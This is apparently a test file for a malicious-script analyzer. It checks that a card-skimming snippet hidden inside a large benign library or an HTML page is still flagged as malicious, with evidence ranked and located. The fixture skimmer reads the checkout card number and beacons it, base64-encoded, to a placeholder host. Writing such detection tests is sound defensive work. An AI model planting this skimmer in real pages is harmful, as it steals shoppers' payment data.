import assert from 'node:assert/strict';
import { createAnalyzer, type Analyzer } from '../../analyzer/index.ts';
import { analysis as schema, severities, type Analysis } from '../../core/schema/index.ts';

const guest = `document.querySelector('#checkout').addEventListener('submit', function () {
  var card = document.querySelector('#cc_number').value;
  new Image().src = 'https://stats.invalid/c?d=' + btoa(card);
});`;
const library = `(function () { var n = 1;\n${Array.from(
  { length: 400 },
  (_, n) => `function add${n}(one, other) { return n ? add${(n + 1) % 400}(one, other) : one + other + n }`,
).join('\n')}\n})();`;

describe('a script with islands', () => {
  let analyzer: Analyzer;
  before(async () => {
    analyzer = await createAnalyzer({ workers: 1 });
  });
  after(() => analyzer.close());
  const analyse = async (path: string, text: string): Promise<Analysis> =>
    schema.parse((await analyzer.analyze({ path, bytes: Buffer.from(text) })).analysis);

  it('is as bad as the worst of them', async () => {
    const [alone, inside] = [await analyse('a.js', guest), await analyse('b.js', `${library}\n${guest}`)];
    assert.equal(alone.verdict, 'malicious');
    assert.equal(inside.verdict, 'malicious');
    assert.equal(inside.category, alone.category);
  });

  it('says the gravest reason first, as a script without any and a page do', async () => {
    const mild = 'if (location.href.includes("/checkout")) window.seen = 1;\n';
    const inputs = [
      ['a.js', mild + guest],
      ['b.js', `${mild}${library}\n${guest}`],
      ['c.html', `<script>${mild}</script><script>${mild}${guest}</script>`],
    ] as const;
    for (const [path, text] of inputs) {
      const { evidence } = await analyse(path, text);
      const ranks = evidence.map(({ severity }) => severities.indexOf(severity));
      assert.ok(new Set(ranks).size > 1, path);
      assert.deepEqual(
        ranks,
        ranks.toSorted((one, other) => other - one),
      );
    }
  });

  it('says each reason once, at its place in the whole', async () => {
    const { evidence } = await analyse('a.js', `${library}\n${guest}`);
    const said = evidence.map(({ rule, field, host }) => [rule, field, host].join(' '));
    assert.equal(new Set(said).size, said.length, said.join('\n'));
    for (const { location } of evidence) assert.ok(location.line > 401 && location.line < 407);
  });

  it('has the identity of the whole', async () => {
    const [whole, changed] = [
      await analyse('a.js', `${library}\n${guest}`),
      await analyse('a.js', `${library}\n${guest} `),
    ];
    assert.notEqual(whole.sha256, changed.sha256);
    assert.ok(whole.structureHash);
    assert.equal(whole.structureHash, changed.structureHash);
    assert.equal(whole.bytes, library.length + guest.length + 1);
  });

  it('is one script of its page', async () => {
    const page = `<p>Pay</p>\n<script>${library}\n${guest}</script>\n<script>var n = 1</script>`;
    const { scripts, verdict } = await analyse('a.html', page);
    assert.equal(verdict, 'malicious');
    assert.deepEqual(
      scripts!.map((script) => script.verdict),
      ['malicious', 'benign'],
    );
  });
});
